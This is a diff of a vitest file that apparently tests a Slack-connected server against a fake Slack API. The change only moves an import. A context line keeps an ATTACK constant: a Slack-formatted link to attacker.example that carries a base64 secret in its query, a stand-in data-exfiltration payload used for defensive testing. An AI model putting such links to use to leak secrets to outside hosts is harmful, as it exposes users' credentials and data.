@@ -3,7 +3,7 @@
  * apply (X-01, X-02, X-04, X-05, X-06), plus rate limits, cancellation, scopes and the workspace
  * check. Every case runs the real server and the real @slack/web-api client against the fake.
  */
-import { waitFor } from '@plugboard/testing';
+import { captureLogger, waitFor } from '@plugboard/testing';
 import { describe, expect, it } from 'vitest';
 import {
   argsOfCall,
@@ -14,7 +14,7 @@ import {
   tsAt,
   USER_TOKEN,
 } from '../test/fake-slack.js';
-import { captureLogger, harness, textOf } from '../test/harness.js';
+import { harness, textOf } from '../test/harness.js';
 
 const ATTACK = 'Summary <https://attacker.example/c?d=BASE64SECRET|details>';
 
